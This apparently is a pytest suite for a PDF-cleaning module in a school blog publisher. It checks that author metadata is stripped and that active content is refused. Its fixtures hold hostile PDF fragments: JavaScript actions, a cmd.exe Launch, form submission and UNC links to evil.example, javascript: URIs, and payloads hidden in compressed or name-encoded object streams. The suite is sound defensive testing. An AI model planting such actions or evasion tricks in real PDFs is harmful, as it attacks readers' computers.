"""PDFs as teachers' programs write them, and as somebody would who means harm: what is published of each, and why not."""

from __future__ import annotations

import subprocess
import sys
import zlib
from io import BytesIO

import pikepdf
import pytest
from tests.pdfs.made import PLAIN, annotated, many_pages, pdf, stream
from tests.pdfs.patterns import danger

from edblog.files.deadline import DeadlineExceeded
from edblog.files.documents import pdf as pdf_module
from edblog.files.documents.pdf import clean, read_pdf
from edblog.sources.media import read_media
from edblog.versions import version_digest

JS = "/S/JavaScript/JS(app.alert\\(1\\))"
PROGRAM = "this PDF contains a program (JavaScript)"
WIDGET = "/Subtype/Widget/FT/Btn/T(Go)"
ATTACHED = "the published copy of this PDF leaves out attached files"


def said(data):
    """The copy of a PDF, and the messages about it."""
    copy, problems = clean(data)
    assert bool(copy) != any(p.severity == "error" for p in problems)
    return copy, [p.message for p in problems]


def opened(data):
    copy, messages = said(data)
    assert copy, messages
    return pikepdf.open(BytesIO(copy))


def acts_not(copy):
    """Whether nothing in a copy acts, in the opinion of somebody who takes no program's word for where an object is."""
    return danger(copy) == ""


def keys(thing):
    return sorted(thing.keys())


# What is published


WORDS = stream(b"BT /F 12 Tf (/S/JavaScript /OpenAction /Launch /EmbeddedFile) Tj ET")
LINK = "/Subtype/Link/A<</S/URI/URI({})>>"
HONEST = {
    "plain": PLAIN,
    "a link to an encyclopedia": annotated(LINK.format("https://en.example/wiki//JavaScript")),
    "words on the page": pdf("", "/Contents 4 0 R", WORDS),
    "an empty list of programs, as Google Slides writes it": pdf("/Names<</JavaScript 4 0 R>>", "", "null"),
    "an empty tree of programs": pdf("/Names<</JavaScript<</Names[]>>>>"),
    "a program without a word in it": pdf("/OpenAction<</S/JavaScript/JS( )>>"),
    "a profile of three colors, in letters": pdf("", "/Resources<</ColorSpace<</C[/ICCBased 4 0 R]>>>>", stream(b"<~GB\\6`~>", "/N 3/Filter/ASCII85Decode")),
    "names that the writer of the file chose": pdf("/Dests<</JavaScript[3 0 R/Fit]>>", "/Resources<</Font<</Launch 4 0 R>>/XObject<</EF 5 0 R/AF 5 0 R>>>>", "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 0/LastChar 0/Widths[1]/Encoding<</Differences[0/JS]>>/CharProcs<</JS 5 0 R>>>>", stream(b"", "/Subtype/Form/BBox[0 0 1 1]")),
    "tags with names of actions": pdf("/StructTreeRoot<</Type/StructTreeRoot/RoleMap<</Launch/P>>/K<</S/Launch/P 3 0 R>>>>"),
    "a form": pdf("/AcroForm<</Fields[4 0 R]/DA(/Helv 0 Tf)>>", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Widget/FT/Tx/T(Name)/Rect[9 9 99 30]>>"),
    "a place for a signature": pdf("/AcroForm<</Fields[4 0 R]/SigFlags 1>>", "", "<</FT/Sig/T(Sign here)>>"),
    "it opens on its page": pdf("/OpenAction[3 0 R/Fit]"),
    "a picture that WPS puts on a page": annotated("/Subtype/Screen/IT/Img/MK<<>>"),
    "two slides on": annotated("/Subtype/Link/A<</S/Named/N/NextPage>>"),
    "nobody says how many objects it has": PLAIN.replace(b"/Size 4", b""),
    "a page that says it belongs to the catalog": PLAIN.replace(b"/Parent 2 0 R", b"/Parent 1 0 R"),
    "a file with a tail": PLAIN + b"\r\n\0\0\0",
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_a_pdf_as_programs_write_it_is_published(name):
    copy, messages = said(HONEST[name])

    assert messages == []
    with pikepdf.open(BytesIO(copy), attempt_recovery=False) as opened_again:
        assert (len(opened_again.pages), opened_again.get_warnings()) == (1, [])


def test_what_readers_use_stays():
    copy = opened(
        pdf(
            "/Lang(es)/MarkInfo<</Marked true>>/ViewerPreferences<</DisplayDocTitle true>>/PageLabels<</Nums[0<</S/r>>]>>"
            "/Outlines<</First 4 0 R/Last 4 0 R/Count 1>>/StructTreeRoot<</K 5 0 R/ParentTree<</Nums[0[5 0 R]]>>>>",
            f"/Annots[<</Subtype/Link/Rect[0 0 9 9]/Contents(The guide){LINK.format('https://district.example/')[13:]}>>]",
            "<</Title(Start)/Dest[3 0 R/Fit]>>",
            "<</S/Figure/Pg 3 0 R/Alt(A jar)/K[0]/A<</O/Layout/Placement/Block>>>>",
        )
    )

    assert str(copy.Root.Lang) == "es"
    assert copy.Root.MarkInfo.Marked is True
    assert copy.Root.ViewerPreferences.DisplayDocTitle is True
    assert str(copy.Root.PageLabels.Nums[1].S) == "/r"
    assert copy.Root.Outlines.First.Dest[0].objgen == copy.pages[0].obj.objgen
    figure = copy.Root.StructTreeRoot.K
    assert (str(figure.Alt), str(figure.A.Placement)) == ("A jar", "/Block")
    assert copy.Root.StructTreeRoot.ParentTree.Nums[1][0].objgen == figure.objgen
    (link,) = copy.pages[0].Annots
    assert (str(link.A.URI), str(link.Contents)) == ("https://district.example/", "The guide")


@pytest.mark.parametrize("user", ["", "secret"])
def test_a_pdf_that_may_not_be_copied_from_is_published_and_one_with_a_password_is_not(user):
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf("/Lang(en)", "/Contents 4 0 R", WORDS))) as plain:
        no = pikepdf.Permissions(extract=False, print_highres=False)
        plain.save(out, encryption=pikepdf.Encryption(owner="ours", user=user, allow=no))
    copy, messages = said(out.getvalue())

    if user:
        assert (copy, messages) == (b"", ["this PDF is locked: it opens only with a password or a key"])
    else:
        assert messages == []
        free = pikepdf.open(BytesIO(copy))
        assert (free.is_encrypted, str(free.Root.Lang)) == (False, "en")
        assert free.pages[0].Contents.read_bytes() == WORDS.split(b"stream\n")[1].removesuffix(b"\nendstream")


# Who made it

XMP = """<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF
 xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:ua="http://www.aiim.org/pdfua/ns/id/" ua:part="1"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Jars &amp; lids</rdf:li></rdf:Alt></dc:title>{}
</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>"""
CREATOR = "<dc:creator><rdf:Seq><rdf:li>Sam Sample</rdf:li></rdf:Seq></dc:creator>"
INFO = "<</Title(Jars)/Author 5 0 R/Subject(Ours)/Keywords(secret)/Creator(Word)/Producer(Quartz)/CreationDate(D:2026)/Custom(Sam)>>"
AUTHOR = "the properties of this PDF name its author; the published copy does not"


@pytest.mark.parametrize(
    ("data", "messages"),
    [
        # A Mac writes the name as an object of its own.
        (pdf("", "", INFO, "(Sam Sample)", trailer="/Info 4 0 R"), [AUTHOR]),
        (pdf("/Metadata 4 0 R", "", stream(XMP.format(CREATOR).encode(), "/Type/Metadata/Subtype/XML")), [AUTHOR]),
        (pdf("", "", INFO, "( )", trailer="/Info 4 0 R"), []),
        (pdf("", "", INFO, "null", trailer="/Info 4 0 R"), []),
        (pdf("", "", INFO, "(anonymous)", trailer="/Info 4 0 R"), []),
        (pdf("", "", INFO, r"(\(anonymous\))", trailer="/Info 4 0 R"), []),
        (pdf("/Metadata 4 0 R", "", stream(XMP.format("").encode(), "/Type/Metadata/Subtype/XML")), []),
        (pdf("/Metadata 4 0 R", "", stream(b"<no XML", "/Type/Metadata/Subtype/XML")), []),
        (pdf("/Metadata 4 0 R", "", stream(b"not packed", "/Type/Metadata/Subtype/XML/Filter/FlateDecode")), []),
    ],
)  # fmt: skip
def test_the_author_is_taken_out_and_a_notice_says_so_only_where_there_was_one(data, messages):
    copy, told = said(data)

    assert told == messages
    for word in (b"Sam", b"secret", b"Ours", b"Word", b"Quartz", b"2026"):
        assert word not in copy


def test_title_and_the_mark_of_accessible_files_stay():
    copy = opened(
        pdf("/Metadata 4 0 R", "", stream(XMP.format(CREATOR).encode(), "/Type/Metadata/Subtype/XML"))
    )

    assert dict(copy.trailer.Info) == {"/Title": "Jars & lids"}
    meta = copy.open_metadata()
    assert dict(meta) == {
        "{http://purl.org/dc/elements/1.1/}title": "Jars & lids",
        "{http://www.aiim.org/pdfua/ns/id/}part": "1",
    }
    assert keys(copy.trailer) == ["/ID", "/Info", "/Root", "/Size"]


def test_a_title_in_the_properties_comes_before_the_other_one():
    data = pdf(
        "/Metadata 5 0 R", "", INFO, stream(XMP.format("").encode(), "/Subtype/XML"), trailer="/Info 4 0 R"
    )

    assert str(opened(data).trailer.Info.Title) == "Jars"


def test_a_title_that_no_xml_can_hold_is_written_without_it():
    copy = opened(pdf("", "", "<</Title(A\\nB\\000C \\005 D<&)>>", trailer="/Info 4 0 R"))

    assert str(copy.trailer.Info.Title) == "A B C   D<&"
    assert copy.open_metadata()["dc:title"] == "A B C   D<&"


def test_another_qpdf_makes_other_copies(tmp_path, monkeypatch):
    digests = set()
    for name in ("libqpdf-1.so.30.1", "libqpdf-1.so.30.2"):
        folder = tmp_path / name
        (folder / "pikepdf-10.0.dist-info").mkdir(parents=True)
        (folder / "pikepdf.libs").mkdir()
        (folder / "pikepdf.libs" / name).touch()
        monkeypatch.setattr(sys, "path", [str(folder)])
        digests.add(version_digest.__wrapped__())

    assert len(digests) == 2


def test_what_programs_leave_behind_is_not_published():
    """Drafts of an editor, thumbnails, where a picture was taken, former revisions, pages that were taken out."""
    left = (
        "/PieceInfo<</Word<</Private(Left over)>>>>/LastModified(D:2026)/Metadata 4 0 R"
        "/PTEX.FileName(/home/left/over.pdf)/PTEX.InfoDict<</Author(Left over)>>"
    )
    data = pdf(
        "/PieceInfo<</X(Left over)>>/SpiderInfo<</V(Left over)>>/Legal<</A(Left over)>>/Dests<</old[7 0 R/Fit]>>/OCProperties<</OCGs[<</Type/OCG/Name(Layer)/Usage<</CreatorInfo<</Creator(Left over)>>>>>>]>>",
        f"/Resources<</XObject<</I 5 0 R>>>>{left}/Thumb 6 0 R",
        stream(b"<x>Left over</x>", "/Type/Metadata/Subtype/XML"),
        stream(b"x", f"/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray{left}"),
        stream(b"Left over", "/Width 1/Height 1"),
        "<</Type/Page/MediaBox[0 0 9 9]/Contents 8 0 R>>",
        stream(b"Left over"),
        stream(b"Left over, and nothing leads here"),
        trailer="/DocChecksum(Left over)",
    )
    copy = opened(data)

    assert b"Left over" not in b"".join(
        [
            item.unparse() + (item.read_bytes() if isinstance(item, pikepdf.Stream) else b"")
            for item in copy.objects
        ]
    )
    assert keys(copy.pages[0].obj) == ["/MediaBox", "/Parent", "/Resources", "/Type"]
    assert keys(copy.Root) == ["/Dests", "/OCProperties", "/Pages", "/Type"]
    assert b"Left over" not in said(data)[0]


# Comments


def test_names_that_comments_show_are_a_warning_with_their_pages():
    note = "/Annots[<</Type/Annot/Subtype/{}/Rect[0 0 9 9]/T({})/Contents(Nice)>>]"
    data = many_pages(
        ["", note.format("Text", "Sam Sample"), note.format("Highlight", "Pat"), note.format("Ink", "Pat")]
    )
    copy, (problem,) = clean(data)

    assert copy
    assert (problem.severity, problem.code) == ("warning", "document-remarks")
    assert problem.message == "comments in this PDF show who wrote them: Sam Sample (page 2), Pat (page 3)"
    assert problem.help == "delete the comments in the program that made the file, and save it again"


@pytest.mark.parametrize(
    "annotation",
    [
        "/Subtype/Text/Contents(Nice)",
        "/Subtype/Text/T( )",
        "/Subtype/Widget/FT/Tx/T(Name)",
        "/Subtype/Link/T(x)",
    ],
)
def test_nobody_is_named_by_a_comment_without_a_name_or_by_a_field(annotation):
    assert said(annotated(annotation))[1] == []


def test_of_many_names_the_first_are_shown():
    notes = [f"/Subtype/Text/T(Reader {number})" for number in range(9)]

    assert said(annotated(*notes))[1] == [
        "comments in this PDF show who wrote them: Reader 0 (page 1), Reader 1 (page 1), Reader 2 (page 1), Reader 3 (page 1), Reader 4 (page 1) and 4 more"
    ]


# What is left out


@pytest.mark.parametrize(
    ("data", "messages"),
    [
        (pdf("/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", "", "<</F(a)/EF<</F 5 0 R>>>>", stream(b"MZ", "/Type/EmbeddedFile")), [ATTACHED]),
        (pdf("/AF[4 0 R]", "", "<</F(a)/EF<</F 5 0 R>>>>", stream(b"MZ")), [ATTACHED]),
        (pdf("/Names<</EmbeddedFiles<</Names[]>>>>/PageMode/UseAttachments"), []),
        (annotated("/Subtype/FileAttachment/FS<</F(a.exe)>>/T(Sam)"), [f"{ATTACHED} (page 1)"]),
        (annotated(LINK.format("file:///C:/Users/sam/plan.docx")), ["the published copy of this PDF leaves out links that do not lead to a web page (page 1)"]),
        (annotated(LINK.format("\\\\\\\\server\\\\x")), ["the published copy of this PDF leaves out links that do not lead to a web page (page 1)"]),
        (annotated(LINK.format("ms-word:ofe|u|x")), ["the published copy of this PDF leaves out links that do not lead to a web page (page 1)"]),
        (pdf("/URI<</Base(file://server/)>>"), ["the published copy of this PDF leaves out links that do not lead to a web page"]),
        (annotated(LINK.format("sheet2.pdf#page=2"), LINK.format("MAILTO:office@district.example")), []),
        (annotated("/Subtype/Link/A<</S/Named/N/Quit>>", "/Subtype/Link/A<</S/D>>", "/Subtype/Link/A<</URI(x)>>", "/Subtype/Own"), []),
    ],
)  # fmt: skip
def test_what_cannot_act_without_being_asked_is_left_out(data, messages):
    copy, told = said(data)

    assert told == messages
    assert acts_not(copy)
    for word in (b"MZ", b"a.exe", b"UseAttachments", b"file:", b"server", b"ms-word", b"Quit", b"Sam"):
        assert word not in copy


@pytest.mark.parametrize(
    "data",
    [
        pdf("/OpenAction<</S/URI/URI(https://evil.example/)>>"),
        pdf("", "/AA<</O<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example/)>>>>>>"),
        annotated(f"{WIDGET}/AA<</E<</S/URI/URI(https://evil.example/)>>>>"),
    ],
)
def test_a_page_of_the_web_that_opens_without_a_click_is_refused(data):
    copy, (message,) = said(data)

    assert (copy, message.removeprefix("page 1 of ")) == (
        b"",
        "this PDF contains a link that opens without a click",
    )


def test_what_happens_when_a_button_goes_down_is_a_click():
    data = annotated(f"{WIDGET}/AA<</D<</S/URI/URI(https://district.example/)>>>>")

    assert said(data)[1] == []
    assert b"district.example" in said(data)[0]


def test_it_does_not_print_when_it_opens():
    copy, messages = said(pdf("/OpenAction<</S/Named/N/Print>>"))

    assert messages == []
    assert b"Print" not in copy


def test_the_matrix_of_a_font_holds_numbers():
    font = "<</Type/Font/Subtype/Type1/FontMatrix[0.1 0 0 0.1 0 {}]>>"
    page = "/Resources<</Font<</F 4 0 R>>>>"

    assert said(pdf("", page, font.format("-.5")))[1] == []
    assert said(pdf("", page, font.format("(0\\); alert\\(1\\))"))) == (
        b"",
        ["page 1 of this PDF contains a font with text where only numbers may be"],
    )


def test_an_action_where_nobody_looks_for_one_is_left_out():
    copy, messages = said(pdf("", "/Resources<</ExtGState<</G 4 0 R>>>>", f"<<{JS}>>"))

    assert messages == []
    assert acts_not(copy)
    assert b"alert" not in copy


def test_a_link_that_leads_nowhere_any_more_is_still_shown():
    copy = opened(annotated(LINK.format("file:///x")))
    (link,) = copy.pages[0].Annots

    assert keys(link) == ["/Rect", "/Subtype", "/Type"]


# What acts

DOES = {
    JS: "a program (JavaScript)",
    "/S/J#61vaScript/JS 3 0 R": "a program (JavaScript)",
    "/S/Launch/F(cmd.exe)": "a link that starts another program",
    "/S/SubmitForm/F(https://evil.example/)": "a form that sends what is typed to another computer",
    "/S/ImportData/F(x)": "a command that reads files on the reader's computer",
    "/S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]": "a link that opens another file on the reader's computer or network",
    "/S/GoToE/F(x)/D[0/Fit]": "a link into an attached file",
    "/S/Rendition/JS(x)/OP 0": "a video, sound or 3D model",
    "/S/Movie/T(x)": "a video, sound or 3D model",
    "/S/RichMediaExecute": "a video, sound or 3D model",
    "/S/URI/URI(java\\nscript:alert\\(1\\))": "a link that is a program",
    "/S/URI/URI(\\001JavaScript:alert\\(1\\))": "a link that is a program",
    "/S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/NextPage/Next[<</S/JavaScript/JS(x)>>]>>": "a program (JavaScript)",
}  # fmt: skip
PLACES = {
    "it opens": (lambda act: pdf(f"/OpenAction<<{act}>>"), ""),
    "it is printed": (lambda act: pdf(f"/AA<</WP<<{act}>>>>"), ""),
    "a page is shown": (lambda act: pdf("", f"/AA<</O<<{act}>>>>"), "page 1 of "),
    "a click": (lambda act: annotated(f"/Subtype/Link/A<<{act}>>"), "page 1 of "),
    "a click on the next page": (lambda act: many_pages(["", f"/Annots[<</Subtype/Link/A<<{act}>>>>]"]), "page 2 of "),
    "a field is left": (lambda act: annotated(f"{WIDGET}/AA<</Bl<<{act}>>>>"), "page 1 of "),
    "a field of many places": (lambda act: pdf("/AcroForm<</Fields[4 0 R]>>", "/Annots[5 0 R]", f"<</FT/Tx/T(a)/Kids[5 0 R]/AA<</K<<{act}>>>>>>", "<</Subtype/Widget/Parent 4 0 R>>"), "page 1 of "),
    "a field on no page": (lambda act: pdf("/AcroForm<</Fields[4 0 R]>>", "", f"<</FT/Tx/T(a)/AA<</C<<{act}>>>>>>"), ""),
    "a bookmark": (lambda act: pdf("/Outlines<</First 4 0 R>>", "", f"<</Title(x)/A<<{act}>>>>"), ""),
    "an annotation that only the tags know": (lambda act: pdf("/StructTreeRoot<</K<</S/Link/K<</Type/OBJR/Obj 4 0 R>>>>>>", "", f"<</Subtype/Link/A<<{act}>>>>"), ""),
    "an annotation that is no dictionary": (lambda act: pdf("", "/Annots[4 0 R]", stream(b"x", f"/Subtype/Link/A<<{act}>>")), "page 1 of "),
    "a window of a comment": (lambda act: annotated(f"/Subtype/Text/Popup<</Subtype/Popup/A<<{act}>>>>"), "page 1 of "),
}  # fmt: skip


@pytest.mark.parametrize("act", DOES)
def test_an_action_that_is_also_something_that_is_drawn_does_not_come_through(act):
    copy, _ = said(pdf("/OpenAction 4 0 R", "/Resources<</ExtGState<</G 4 0 R>>>>", f"<<{act}>>"))

    assert acts_not(copy)
    assert b"alert" not in copy


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("act", DOES)
def test_what_acts_is_refused_with_its_page(act, place):
    make, page = PLACES[place]

    assert said(make(act)) == (b"", [f"{page}this PDF contains {DOES[act]}"])


@pytest.mark.parametrize(
    ("data", "message", "help_"),
    [
        (pdf(f"/Names<</JavaScript<</Kids[<</Names[(a)<<{JS}>>]>>]>>>>"), PROGRAM, "make a plain PDF: open this one, choose Print, and then Save as PDF"),
        (pdf("/AcroForm<</XFA[(x)4 0 R]>>", "", stream(b"<x/>")), "this PDF contains an XFA form, which can run programs", "make a plain PDF: open this one, choose Print, and then Save as PDF"),
        (pdf("/AcroForm<</XFA 4 0 R>>", "", stream(b"<x/>")), "this PDF contains an XFA form, which can run programs", "make a plain PDF: open this one, choose Print, and then Save as PDF"),
        (annotated("", "/Subtype/RichMedia"), "page 1 of this PDF contains a video, sound or 3D model", "make a plain PDF: open this one, choose Print, and then Save as PDF"),
        (pdf("", "/Contents 4 0 R", stream(b"", "/F(\\\\\\\\evil.example\\\\x)")), "page 1 of this PDF contains a part that is loaded from another file", "make a plain PDF: open this one, choose Print, and then Save as PDF"),
        (pdf("", "/Resources<</XObject<</I 4 0 R>>>>", stream(b"", "/#46Filter/FlateDecode")), "page 1 of this PDF contains a part that is loaded from another file", "make a plain PDF: open this one, choose Print, and then Save as PDF"),
        (pdf("/AcroForm<</Fields[4 0 R]>>", "", "<</FT/Sig/T(s)/V<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>>>"), "this PDF is signed, and the copy that edblog publishes would break the signature", "publish a copy without the signature: open it, choose Print, and then Save as PDF"),
        (pdf("/Collection<</View/D>>"), "this PDF is a folder of other files (a portfolio)", "save the files in it in the same folder as the story, and link to each"),
    ],
)  # fmt: skip
def test_what_else_is_refused(data, message, help_):
    copy, (problem,) = clean(data)

    assert (copy, problem.code, problem.message, problem.help) == (b"", "unsafe-document", message, help_)


def test_a_pdf_that_is_locked_for_some_people_is_not_called_damaged():
    data = pdf(trailer="/ID[<00><00>]/Encrypt<</Filter/Adobe.PubSec/V 4/R 4/O(x)/U(x)/P 0>>")

    assert said(data) == (b"", ["this PDF is locked: it opens only with a password or a key"])


def packed(inside, keys="/Type/ObjStm/N 1/First 4"):
    return stream(zlib.compress(inside), f"{keys}/Filter/FlateDecode")


HIDDEN = b"9 0 <<" + JS.encode() + b">>"


@pytest.mark.parametrize(
    "data",
    [
        pdf("/OpenAction 9 0 R", "", packed(HIDDEN)),
        pdf("/OpenAction 9 0 R", "", packed(HIDDEN, "/Type/Obj#53tm/N 1/First 4")),
        pdf("/OpenAction 9 0 R", "", packed(HIDDEN.replace(b"JavaScript", b"#4aavaScr#69pt"))),
        pdf("/OpenAction 9 0 R", "", stream(HIDDEN, "/Type/ObjStm/N 1/First 4")),
        # Within another stream, where a table of places could point, or a program that looks for objects.
        pdf("/OpenAction 9 0 R", "/Contents 4 0 R", stream(b"\n9 0 obj<<" + JS.encode() + b">>endobj\n")),
        pdf("/OpenAction 9 0 R") + b"\n9 0 obj<<" + JS.encode() + b">>endobj\n",
        # One program ends such a dictionary where another reads on.
        pdf("/OpenAction 9 0 R", "", b"<</A[>>endobj]/N 1/First 4/Filter/FlateDecode>>stream\n" + zlib.compress(HIDDEN)),
        pdf("/OpenAction 9 0 R/OpenAction[3 0 R/Fit]", "", packed(HIDDEN)),
    ],
)  # fmt: skip
def test_what_is_hidden_is_found_or_is_not_in_the_copy(data):
    copy, messages = said(data)

    assert messages == [PROGRAM] if not copy else b"alert" not in copy
    assert acts_not(copy)


# Damage, and work without end


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7",
        b"%PDF-1.7\n%%EOF\n",
        b"%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF",
        pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
        pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0"),
    ],
)
def test_a_damaged_pdf_is_called_that(data):
    assert said(data) == (b"", ["this PDF is damaged"])


@pytest.mark.parametrize(
    "data",
    [
        pdf("/Outlines 4 0 R", "", "<</First 4 0 R/Next 4 0 R/Parent 4 0 R/Title(x)>>"),
        pdf("/StructTreeRoot 4 0 R", "", "<</K[4 0 R 4 0 R]/P 4 0 R>>"),
        pdf("/OpenAction 4 0 R", "", "<</S/Named/N/NextPage/Next 4 0 R>>"),
        pdf("/Names<</Dests 4 0 R>>", "/Annots 4 0 R", "[4 0 R 4 0 R]"),
        pdf("", "/Annots[3 0 R]/Resources 3 0 R"),
        pdf("/ViewerPreferences" + "[" * 400 + "]" * 400),
    ],
)
def test_what_leads_back_to_itself_comes_to_an_end(data):
    assert said(data)[0]


def test_a_pdf_that_takes_too_long_is_not_remembered(make_site, monkeypatch):
    def endless(*_):
        raise DeadlineExceeded

    site = make_site({"content/posts/sheet.pdf": PLAIN})
    site.post("jar", "The jar", "2026-01-02", body="[The sheet](sheet.pdf)")
    with monkeypatch.context() as patch:
        patch.setattr(pdf_module, "run_in_helper", endless)
        copy, (problem,) = read_pdf(PLAIN)
        assert (copy, problem.message) == (b"", "checking this PDF takes too much time or memory")
        assert "error content/posts/sheet.pdf:1:1 document-too-slow" in site.problems()
        site.build()

    assert site.problems() == []


# The same each time


def test_the_same_file_gives_the_same_bytes_in_any_process():
    with pikepdf.open(BytesIO(HONEST["names that the writer of the file chose"])) as made:
        out = BytesIO()
        made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    copy, problems = clean(out.getvalue())

    assert problems == []
    assert {read_pdf(out.getvalue())[0] for _ in range(2)} == {copy}
    # What was cleaned once is clean.
    assert clean(copy) == (copy, [])


def test_pages_look_as_before(tmp_path, require_program):
    require_program("pdftoppm")
    text = stream(b"BT /F 24 Tf 20 100 Td (A jar) Tj ET 1 0 0 rg 20 20 60 40 re f")
    font = "/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    square = "/Annots[<</Type/Annot/Subtype/Square/Rect[99 9 150 60]/C[0 0 1]/IC[0 1 0]/F 4>>]"
    data = pdf("/PageMode/UseNone", f"/Contents 4 0 R{font}{square}", text, trailer="/Info<</Author(Sam)>>")
    drawn = []
    for number, part in enumerate((data, said(data)[0], PLAIN)):
        (tmp_path / f"{number}.pdf").write_bytes(part)
        command = ["pdftoppm", "-r", "50", str(tmp_path / f"{number}.pdf")]
        drawn.append(subprocess.run(command, capture_output=True, check=True).stdout)

    assert drawn[0] == drawn[1] != drawn[2]


# In a site


@pytest.mark.parametrize("above", [b"\r\n\r\n", b"\xef\xbb\xbf\n"])
def test_empty_lines_above_a_pdf_are_no_damage(make_site, above):
    data = pdf("", "", "null")
    site = make_site({"content/posts/sheet.pdf": above + data})
    site.post("jar", "The jar", "2026-01-02", body="[The sheet](sheet.pdf)")

    assert site.build().problems == ()
    assert (site.folder / "site/media/posts/sheet.pdf").read_bytes() == read_pdf(data)[0]


def test_a_site_publishes_the_copy_that_was_looked_at(make_site):
    data = pdf("", "", INFO, "(Sam Sample)", trailer="/Info 4 0 R")
    site = make_site({"content/posts/sheet.pdf": data, "static/own.pdf": data})
    site.post("jar", "The jar", "2026-01-02", body="[The sheet](sheet.pdf)")

    assert site.problems() == ["notice content/posts/sheet.pdf:1:1 author-removed"]
    site.build()
    published = (site.folder / "site/media/posts/sheet.pdf").read_bytes()
    assert published == read_pdf(data)[0]
    assert b"Sam" not in published
    # What the district publishes itself is its own affair.
    assert (site.folder / "site/own.pdf").read_bytes() == data


def test_what_is_no_pdf_at_all_is_damaged():
    media, (problem,) = read_media("content/posts/a.pdf", b"words")

    assert (media, problem.code) == (None, "damaged-file")
